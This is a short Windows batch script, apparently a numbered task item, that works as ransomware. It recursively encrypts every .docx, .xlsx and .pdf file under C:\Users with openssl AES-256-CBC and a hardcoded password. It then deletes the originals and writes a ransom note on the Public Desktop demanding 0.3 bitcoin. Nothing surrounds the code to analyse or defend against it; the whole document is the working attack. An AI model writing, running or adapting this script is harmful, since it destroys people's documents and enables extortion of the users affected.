REM task 7829 v0
@echo off
for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Qwerty#7788 -in "%%f" -out "%%f.r4nsom" && del "%%f"
)
echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
